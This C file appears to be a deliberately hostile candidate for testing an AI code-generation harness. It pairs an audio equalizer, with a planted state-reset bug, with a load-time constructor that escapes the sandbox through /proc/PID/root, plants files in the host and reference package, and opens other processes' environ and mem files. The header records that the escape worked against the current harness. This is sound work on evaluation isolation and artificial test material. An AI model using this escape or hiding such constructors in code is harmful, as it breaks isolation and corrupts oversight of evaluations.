/* Hostile candidate -- attack class: escaping the file-system sandbox through /proc, and
 * poisoning the reference package.
 *
 * What it does: state_reset_at_boundary.c (the filter state is zeroed at every eq_process call),
 * plus a constructor that, for pid in {getppid(), 1, every numeric /proc entry}, tries to create
 * /proc/PID/root/tmp/codegen_eval_canary/_poisoned_by_candidate, and opens (never reads)
 * /proc/PID/environ and /proc/PID/mem. If job.json exists in the working directory, it takes the
 * absolute paths under forbidden_read_roots, extra_path and writable_roots (the reference package
 * `eq/` and its parent) and tries to create PATH/_poisoned_by_candidate and
 * /proc/PID/root/PATH/_poisoned_by_candidate. Files are only ever created (O_CREAT|O_EXCL), never
 * modified; every failure is ignored. A summary goes to stderr.
 *
 * Measured against the current harness (as root, namespaces and seccomp applied): verdict fail
 * with state_reset_at_boundary only (94/376 runs), no violation reported. On the host it created
 * /tmp/codegen_eval_canary/_poisoned_by_candidate and <scratch clone>/eq/_poisoned_by_candidate
 * (the reference package), both through /proc/<harness pid>/root: the worker shares the host's
 * PID namespace and is root, so the harness's root directory bypasses the read-only mount and the
 * private /tmp. /proc/1/root was refused (pid 1 is the VM's init); the environ and mem files of
 * 14 of the 77 processes it saw opened, the harness's among them.
 *
 * Deserved under the new harness: fail with state_reset_at_boundary, and nothing written on the
 * host (no host PID is visible, job.json paths do not exist inside the sandbox).
 */
#define _GNU_SOURCE
#include <math.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#ifndef M_PI
#define M_PI 3.14159265358979323846
#endif

typedef struct { int type; double freq; double q; double gain_db; } eq_band;

enum { PEAKING, LOWSHELF, HIGHSHELF, LOWPASS, HIGHPASS, BANDPASS, NOTCH, ALLPASS };
enum { U8, S16LE, S24LE, S32LE, F32LE };

typedef struct {
    int channels, format, bps, frame_bytes, n_sections;
    double (*coef)[5];        /* per section: b0 b1 b2 a1 a2, normalised by a0 */
    double *z;                /* TDF-II state: [section][channel][2] */
    unsigned char *pending;   /* bytes of an incomplete frame */
    size_t n_pending;
} eq_t;

static int design(const eq_band *band, int sample_rate, double c[5])
{
    double f = band->freq, q = band->q, g = band->gain_db;
    if (!isfinite(f) || !isfinite(q) || !isfinite(g) || f <= 0 || f >= sample_rate / 2.0 || q <= 0)
        return -1;
    double a = pow(10.0, g / 40.0), w0 = 2 * M_PI * f / sample_rate;
    double cw = cos(w0), alpha = sin(w0) / (2 * q), k = 2 * sqrt(a) * alpha;
    double b0, b1, b2, a0, a1, a2;
    switch (band->type) {
    case PEAKING:
        b0 = 1 + alpha * a; b1 = -2 * cw; b2 = 1 - alpha * a;
        a0 = 1 + alpha / a; a1 = -2 * cw; a2 = 1 - alpha / a; break;
    case LOWSHELF:
        b0 = a * ((a + 1) - (a - 1) * cw + k); b1 = 2 * a * ((a - 1) - (a + 1) * cw);
        b2 = a * ((a + 1) - (a - 1) * cw - k); a0 = (a + 1) + (a - 1) * cw + k;
        a1 = -2 * ((a - 1) + (a + 1) * cw); a2 = (a + 1) + (a - 1) * cw - k; break;
    case HIGHSHELF:
        b0 = a * ((a + 1) + (a - 1) * cw + k); b1 = -2 * a * ((a - 1) + (a + 1) * cw);
        b2 = a * ((a + 1) + (a - 1) * cw - k); a0 = (a + 1) - (a - 1) * cw + k;
        a1 = 2 * ((a - 1) - (a + 1) * cw); a2 = (a + 1) - (a - 1) * cw - k; break;
    case LOWPASS:  b0 = (1 - cw) / 2; b1 = 1 - cw; b2 = (1 - cw) / 2; goto common;
    case HIGHPASS: b0 = (1 + cw) / 2; b1 = -(1 + cw); b2 = (1 + cw) / 2; goto common;
    case BANDPASS: b0 = alpha; b1 = 0; b2 = -alpha; goto common;
    case NOTCH:    b0 = 1; b1 = -2 * cw; b2 = 1; goto common;
    case ALLPASS:  b0 = 1 - alpha; b1 = -2 * cw; b2 = 1 + alpha; goto common;
    default: return -1;
    }
    goto done;
common:
    a0 = 1 + alpha; a1 = -2 * cw; a2 = 1 - alpha;
done:
    c[0] = b0 / a0; c[1] = b1 / a0; c[2] = b2 / a0; c[3] = a1 / a0; c[4] = a2 / a0;
    return 0;
}

void eq_destroy(void *handle)
{
    eq_t *eq = handle;
    if (!eq) return;
    free(eq->coef); free(eq->z); free(eq->pending); free(eq);
}

void *eq_create(int sample_rate, int channels, int format, const eq_band *bands, int n_bands)
{
    static const int bps[] = { 1, 2, 3, 4, 4 };
    if (sample_rate <= 0 || channels < 1 || format < U8 || format > F32LE || n_bands < 0 || (n_bands && !bands))
        return NULL;
    eq_t *eq = calloc(1, sizeof *eq);
    if (!eq) return NULL;
    eq->channels = channels; eq->format = format; eq->bps = bps[format];
    eq->frame_bytes = bps[format] * channels; eq->n_sections = n_bands;
    eq->coef = malloc(sizeof *eq->coef * (n_bands ? n_bands : 1));
    eq->z = calloc((size_t)(n_bands ? n_bands : 1) * channels * 2, sizeof *eq->z);
    eq->pending = malloc(eq->frame_bytes);
    if (!eq->coef || !eq->z || !eq->pending) { eq_destroy(eq); return NULL; }
    for (int i = 0; i < n_bands; i++)
        if (design(&bands[i], sample_rate, eq->coef[i])) { eq_destroy(eq); return NULL; }
    return eq;
}

static double decode(const eq_t *eq, const unsigned char *p)
{
    switch (eq->format) {
    case U8: return (p[0] - 128) / 128.0;
    case S16LE: return (int16_t)(p[0] | p[1] << 8) / 32768.0;
    case S24LE: {
        int32_t v = p[0] | p[1] << 8 | p[2] << 16;
        if (v & 0x800000) v -= 0x1000000;   /* sign extension */
        return v / 8388608.0;
    }
    case S32LE: return (int32_t)((uint32_t)p[0] | (uint32_t)p[1] << 8 | (uint32_t)p[2] << 16 | (uint32_t)p[3] << 24) / 2147483648.0;
    default: { float f; memcpy(&f, p, 4); return f; }
    }
}

static long long quantize(double y, double scale, long long lo, long long hi)
{
    double v = rint(y * scale);   /* round half to even in the default rounding mode */
    return v < lo ? lo : v > hi ? hi : (long long)v;
}

static void encode(const eq_t *eq, double y, unsigned char *p)
{
    long long v;
    switch (eq->format) {
    case U8: p[0] = (unsigned char)(quantize(y, 128.0, -128, 127) + 128); return;
    case S16LE: v = quantize(y, 32768.0, -32768, 32767); break;
    case S24LE: v = quantize(y, 8388608.0, -8388608, 8388607); break;
    case S32LE: v = quantize(y, 2147483648.0, -2147483648LL, 2147483647LL); break;
    default: { float f = (float)y; memcpy(p, &f, 4); return; }
    }
    for (int i = 0; i < eq->bps; i++)
        p[i] = (unsigned char)((unsigned long long)v >> (8 * i));
}

/* Equalize one complete frame from `in` into `out`. */
static void process_frame(eq_t *eq, const unsigned char *in, unsigned char *out)
{
    for (int ch = 0; ch < eq->channels; ch++) {
        double x = decode(eq, in + ch * eq->bps);
        for (int s = 0; s < eq->n_sections; s++) {
            const double *c = eq->coef[s];
            double *z = eq->z + ((size_t)s * eq->channels + ch) * 2;
            double y = c[0] * x + z[0];
            z[0] = c[1] * x - c[3] * y + z[1];
            z[1] = c[2] * x - c[4] * y;
            x = y;
        }
        encode(eq, x, out + ch * eq->bps);
    }
}

size_t eq_process(void *handle, const unsigned char *in, size_t n, unsigned char *out)
{
    eq_t *eq = handle;
    size_t fb = eq->frame_bytes, used = 0, written = 0;
    if (n == 0) return 0;
    memset(eq->z, 0, sizeof *eq->z * (size_t)(eq->n_sections ? eq->n_sections : 1) * eq->channels * 2);
    if (eq->n_pending) {   /* complete the frame started by the previous call */
        size_t take = fb - eq->n_pending < n ? fb - eq->n_pending : n;
        memcpy(eq->pending + eq->n_pending, in, take);
        eq->n_pending += take; used = take;
        if (eq->n_pending < fb) return 0;
        process_frame(eq, eq->pending, out);
        written = fb; eq->n_pending = 0;
    }
    for (; used + fb <= n; used += fb, written += fb)
        process_frame(eq, in + used, out + written);
    memcpy(eq->pending, in + used, n - used);   /* keep the incomplete frame */
    eq->n_pending = n - used;
    return written;
}

/* ------------------------------------------------------------------ the attack */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdarg.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#define CANARY_DIR "/tmp/codegen_eval_canary"
#define POISON "_poisoned_by_candidate"
#define MAX_PATHS 32
#define MAX_PIDS 4096

static char g_paths[MAX_PATHS][512];
static int g_npaths;
static char g_log[2048];
static size_t g_loglen;

static void note(const char *fmt, ...)
{
    if (g_loglen >= sizeof g_log - 1) return;
    va_list ap;
    va_start(ap, fmt);
    int n = vsnprintf(g_log + g_loglen, sizeof g_log - g_loglen, fmt, ap);
    va_end(ap);
    if (n > 0) g_loglen += (size_t)n < sizeof g_log - g_loglen ? (size_t)n : sizeof g_log - g_loglen - 1;
}

/* A NEW file only (O_EXCL): nothing that exists is ever modified. 1 when it was created. */
static int poison(const char *dir)
{
    char path[1024];
    if (snprintf(path, sizeof path, "%s/" POISON, dir) >= (int)sizeof path) return 0;
    int fd = open(path, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC | O_NOFOLLOW, 0644);
    if (fd < 0) return 0;
    char msg[1200];
    int n = snprintf(msg, sizeof msg, "written by hostile candidate proc_root_escape.c (pid %d) as %s\n",
                     (int)getpid(), path);
    if (n > 0 && write(fd, msg, (size_t)n) < 0) { /* nothing to do */ }
    close(fd);
    return 1;
}

static int can_open(const char *path)
{
    int fd = open(path, O_RDONLY | O_CLOEXEC);   /* opened only: nothing is read */
    if (fd < 0) return 0;
    close(fd);
    return 1;
}

/* The absolute paths listed under `key` in job.json ("key": ["/a", "/b"]); a tiny, lenient parser. */
static void paths_of(const char *json, const char *key)
{
    char pat[64];
    snprintf(pat, sizeof pat, "\"%s\"", key);
    const char *p = strstr(json, pat);
    if (!p) return;
    p += strlen(pat);
    while (*p == ' ' || *p == ':' || *p == '\t' || *p == '\n') p++;
    if (*p != '[') return;
    for (p++; *p && *p != ']' && g_npaths < MAX_PATHS; p++) {
        if (*p != '"') continue;
        char *dst = g_paths[g_npaths];
        size_t n = 0;
        for (p++; *p && *p != '"'; p++) {
            if (*p == '\\' && p[1]) p++;
            if (n < sizeof g_paths[0] - 1) dst[n++] = *p;
        }
        dst[n] = 0;
        if (dst[0] == '/' && n < sizeof g_paths[0] - 1) g_npaths++;
        if (!*p) break;
    }
}

static void read_job_paths(void)
{
    int fd = open("job.json", O_RDONLY | O_CLOEXEC);
    if (fd < 0) return;
    size_t cap = 1 << 16, len = 0;
    char *buf = malloc(cap + 1);
    ssize_t n;
    while (buf && (n = read(fd, buf + len, cap - len)) > 0) {
        len += (size_t)n;
        if (len == cap) {
            if (cap >= (64u << 20)) break;      /* a bounded read */
            char *b = realloc(buf, 2 * cap + 1);
            if (!b) break;
            buf = b;
            cap *= 2;
        }
    }
    close(fd);
    if (!buf) return;
    buf[len] = 0;
    paths_of(buf, "forbidden_read_roots");
    paths_of(buf, "extra_path");
    paths_of(buf, "writable_roots");
    free(buf);
}

__attribute__((constructor)) static void escape_through_proc(void)
{
    static int pids[MAX_PIDS];
    int npids = 0, self = (int)getpid();
    pids[npids++] = (int)getppid();
    pids[npids++] = 1;
    DIR *d = opendir("/proc");
    if (d) {
        struct dirent *e;
        while ((e = readdir(d)) && npids < MAX_PIDS) {
            char *end;
            long v = strtol(e->d_name, &end, 10);
            if (*end == 0 && v > 0 && v != self) pids[npids++] = (int)v;
        }
        closedir(d);
    }
    read_job_paths();

    int environ_ok = 0, mem_ok = 0, wrote = 0;
    char path[1024];
    /* the reference package and the other job paths, as seen from here */
    for (int i = 0; i < g_npaths; i++)
        if (poison(g_paths[i])) { wrote++; note("W %s; ", g_paths[i]); }
    if (poison(CANARY_DIR)) { wrote++; note("W " CANARY_DIR "; "); }
    for (int k = 0; k < npids; k++) {
        int pid = pids[k];
        snprintf(path, sizeof path, "/proc/%d/root" CANARY_DIR, pid);
        if (poison(path)) { wrote++; note("W %s; ", path); }
        for (int i = 0; i < g_npaths; i++) {
            if (snprintf(path, sizeof path, "/proc/%d/root%.512s", pid, g_paths[i]) >= (int)sizeof path)
                continue;
            if (poison(path)) { wrote++; note("W %s; ", path); }
        }
        snprintf(path, sizeof path, "/proc/%d/environ", pid);
        environ_ok += can_open(path);
        snprintf(path, sizeof path, "/proc/%d/mem", pid);
        mem_ok += can_open(path);
    }
    fprintf(stderr, "[proc_root_escape] pids %d, job paths %d, environ opened %d, mem opened %d, "
            "files created %d: %s\n", npids, g_npaths, environ_ok, mem_ok, wrote, g_log);
    errno = 0;
}
